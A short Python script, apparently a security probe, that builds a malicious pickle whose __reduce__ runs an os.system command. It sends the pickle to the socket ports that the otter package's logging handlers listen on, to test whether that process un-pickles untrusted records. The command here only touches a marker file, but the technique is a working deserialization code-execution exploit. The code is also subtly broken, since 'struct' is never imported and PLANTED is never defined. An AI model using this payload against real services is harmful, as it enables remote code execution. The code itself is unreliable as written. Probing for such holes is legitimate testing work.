"""Sends a pickle to the port on which otter's own process takes log records, and un-pickles them."""

import pickle
import socket
import time

from otter import logging


class Bomb:
    def __reduce__(self):
        return __import__("os").system, (f"touch /tmp/{PLANTED['mark']}-record",)


for handler in getattr(logging, "_handlers", ()):
    if hasattr(handler, "port"):
        record = pickle.dumps(Bomb())
        with socket.create_connection((handler.host, handler.port)) as connection:
            connection.sendall(struct.pack(">L", len(record)) + record)
            time.sleep(1)
